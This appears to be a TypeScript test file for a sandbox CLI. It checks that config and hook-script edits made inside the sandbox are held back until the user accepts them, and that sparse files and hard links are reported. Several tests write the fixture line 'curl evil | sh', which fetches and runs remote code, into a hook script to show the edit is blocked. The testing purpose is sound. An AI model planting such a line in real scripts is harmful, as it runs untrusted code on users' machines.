/**
 * Held config and hook changes are applied only when the user says so (`run --accept-held`, `session sync
 * --accept-held`), and what a sync transfers with a loss of form (a sparse file, a hard link) is said: a
 * `notice:` line on stderr, a `notices` field in JSON.
 */
import * as NodeContext from "@effect/platform-node/NodeContext"
import { expect, layer } from "@effect/vitest"
import { Effect } from "effect"
import { chmodSync, existsSync, readdirSync, readFileSync } from "node:fs"
import { join } from "node:path"
import { expectOk, fixture, json, poll } from "./helpers.js"
import { alive } from "./processes.js"
import { shellSession } from "./sessions.js"

const TIMEOUT = 120_000
const CONFIG = `[sandboxes.dev]\nbackend = "local"\n`
const EDIT = "echo '# edited in the sandbox' >> .sandbox-cli.toml"

/**
 * A config above the workspace naming a hook script inside it (`ws/hooks/check.sh`), and the check that the
 * sandbox's edit of that script (`echo 'curl evil | sh' >> hooks/check.sh`) was held back beside it.
 */
const hookAbove = Effect.gen(function*() {
  const cli = yield* fixture()
  yield* cli.write("cwd/.sandbox-cli.toml", `${CONFIG}\n[hooks]\nsandbox.prepare = "./ws/hooks/check.sh"\n`)
  const SCRIPT = "#!/bin/sh\nexit 0\n"
  const script = yield* cli.write("cwd/ws/hooks/check.sh", SCRIPT)
  chmodSync(script, 0o755)
  const ws = join(cli.cwd, "ws")
  const heldBack = () => {
    expect(readFileSync(script, "utf8")).toBe(SCRIPT)
    const copy = readdirSync(join(ws, "hooks")).find((n) => n.startsWith("check.sh.sandbox-held-"))
    expect(readFileSync(join(ws, "hooks", copy!), "utf8")).toBe(`${SCRIPT}curl evil | sh\n`)
  }
  return { cli, ws, heldBack }
})

layer(NodeContext.layer)("held changes and notices", (it) => {
  it.scoped("run holds a config change back, run --accept-held applies it", () =>
    Effect.gen(function*() {
      const cli = yield* fixture()
      const config = yield* cli.write("cwd/.sandbox-cli.toml", CONFIG)
      const held = yield* cli.run(["run", "--", "sh", "-c", EDIT])
      expect(held.code, held.stderr).toBe(0)
      expect(held.stderr).toMatch(/^warning: held back, not applied: 1 path .*\.sandbox-cli\.toml/m)
      expect(readFileSync(config, "utf8")).toBe(CONFIG)
      const copy = readdirSync(cli.cwd).find((n) => n.startsWith(".sandbox-cli.toml.sandbox-held-"))
      expect(readFileSync(join(cli.cwd, copy!), "utf8")).toBe(`${CONFIG}# edited in the sandbox\n`)

      expectOk(yield* cli.run(["run", "--accept-held", "--", "sh", "-c", EDIT]))
      expect(readFileSync(config, "utf8")).toBe(`${CONFIG}# edited in the sandbox\n`)
    }), TIMEOUT)

  it.scoped("session sync holds a config change back until --accept-held", () =>
    Effect.gen(function*() {
      const cli = yield* fixture()
      const config = yield* cli.write("cwd/ws/.sandbox-cli.toml", CONFIG)
      const ws = join(cli.cwd, "ws")
      expectOk(yield* cli.run(["workspace", "add", ws, "--name", "ws"]))
      const { id } = json<{ id: string }>(
        yield* cli.run(["session", "new", "--workspace", "ws", "-o", "json", "--", "sh", "-c", `${EDIT}; sleep 600`])
      )
      yield* poll(
        Effect.map(cli.run(["session", "status", id, "-o", "json"]), (r) => json<{ state: string }>(r).state),
        (state) => state === "running"
      )
      const plain = yield* cli.run(["session", "sync", id])
      expect(plain.code, plain.stderr).toBe(0)
      expect(plain.stderr).toMatch(/^warning: held back, not applied: 1 path/m)
      expect(readFileSync(config, "utf8")).toBe(CONFIG)
      const accepted = json<{ held: ReadonlyArray<unknown> }>(
        yield* cli.run(["session", "sync", id, "--accept-held", "-o", "json"])
      )
      expect(accepted.held).toEqual([])
      expect(readFileSync(config, "utf8")).toBe(`${CONFIG}# edited in the sandbox\n`)
      expectOk(yield* cli.run(["session", "stop", id]))
    }), TIMEOUT)

  it.scoped(
    "a hook script named by a config above the workspace is held back like one the workspace names",
    () =>
      Effect.gen(function*() {
        const { cli, ws, heldBack } = yield* hookAbove
        const held = yield* cli.run([
          "run",
          "--workspace",
          ws,
          "--",
          "sh",
          "-c",
          "echo 'curl evil | sh' >> hooks/check.sh"
        ])
        expect(held.code, held.stderr).toBe(0)
        expect(held.stderr).toMatch(/^warning: held back, not applied: 1 path .*hooks\/check\.sh/m)
        heldBack()
      }),
    TIMEOUT
  )

  it.scoped(
    "reconcile's sync-back of a crashed session holds back a hook script its workspace's config names",
    () =>
      Effect.gen(function*() {
        const { cli, ws, heldBack } = yield* hookAbove
        expectOk(yield* cli.run(["workspace", "add", ws, "--name", "ws"]))
        const id = yield* shellSession(cli, "ws", "echo 'curl evil | sh' >> hooks/check.sh; echo > edited; sleep 600")
        const running = yield* poll(
          cli.run(["session", "status", id, "-o", "json"]),
          (r) => r.code === 0 && json<{ state: string }>(r).state === "running"
        )
        yield* poll(cli.run(["session", "exec", id, "--", "cat", "edited"]), (r) => r.code === 0)
        const pid = json<{ supervisor: { pid: number } }>(running).supervisor.pid
        process.kill(pid, "SIGKILL")
        yield* poll(Effect.sync(() => alive(pid)), (up) => !up)

        yield* cli.run(["reconcile"])
        expect(json<{ state: string }>(yield* cli.run(["session", "status", id, "-o", "json"])).state).toBe("crashed")
        expect(readFileSync(join(ws, "edited"), "utf8")).toBe("\n")
        heldBack()
      }),
    TIMEOUT
  )

  it.scoped(
    "a sparse file and a hard link from the sandbox are said: notice lines, notices in JSON",
    () =>
      Effect.gen(function*() {
        const cli = yield* fixture()
        const script = "truncate -s 8M hole.bin; echo one > one.txt; ln one.txt two.txt"
        const text = yield* cli.run(["run", "--", "sh", "-c", script])
        expect(text.code, text.stderr).toBe(0)
        expect(text.stderr.split("\n").filter((l) => l.startsWith("notice: ")).sort()).toEqual([
          "notice: hole.bin: sparse file written out in full",
          "notice: one.txt: hard link split: copied as a separate file",
          "notice: two.txt: hard link split: copied as a separate file"
        ])
        expect(existsSync(join(cli.cwd, "two.txt"))).toBe(true)
        const out = yield* cli.run(["run", "-o", "json", "--", "sh", "-c", "truncate -s 4M hole2.bin"])
        expect(out.code, out.stderr).toBe(0)
        expect((JSON.parse(out.stdout) as { notices: unknown }).notices).toEqual([
          { path: "hole2.bin", reason: "sparse file written out in full" }
        ])
      }),
    TIMEOUT
  )
})
